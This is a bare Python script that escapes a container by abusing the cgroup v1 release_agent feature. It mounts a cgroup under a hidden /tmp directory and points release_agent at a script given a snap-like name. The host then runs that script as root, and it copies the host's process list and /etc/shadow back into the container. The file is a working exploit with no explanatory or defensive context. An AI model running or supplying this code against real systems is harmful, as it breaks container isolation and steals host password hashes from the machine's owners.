#!/usr/bin/env python3
import os
import re
import subprocess
import time

CG = "/tmp/.snapctl"
SCRIPT = "/snap-agent"


def overlay_root() -> str:
    with open("/etc/mtab") as fh:
        return re.search(r"upperdir=([^,]+)", fh.read()).group(1)


os.makedirs(CG, exist_ok=True)
subprocess.run(["mount", "-t", "cgroup", "-o", "rdma", "cgroup", CG], check=True)
child = os.path.join(CG, "x")
os.makedirs(child, exist_ok=True)

for path, value in (
    (os.path.join(child, "notify_on_release"), "1"),
    (os.path.join(CG, "release_agent"), overlay_root() + SCRIPT),
):
    with open(path, "w") as fh:
        fh.write(value)

with open(SCRIPT, "w") as fh:
    fh.write(f"#!/bin/sh\nps aux > {overlay_root()}/out\ncat /etc/shadow >> {overlay_root()}/out\n")
os.chmod(SCRIPT, 0o755)
subprocess.run(["sh", "-c", f"echo $$ > {child}/cgroup.procs"])
time.sleep(1)
print(open("/out").read())
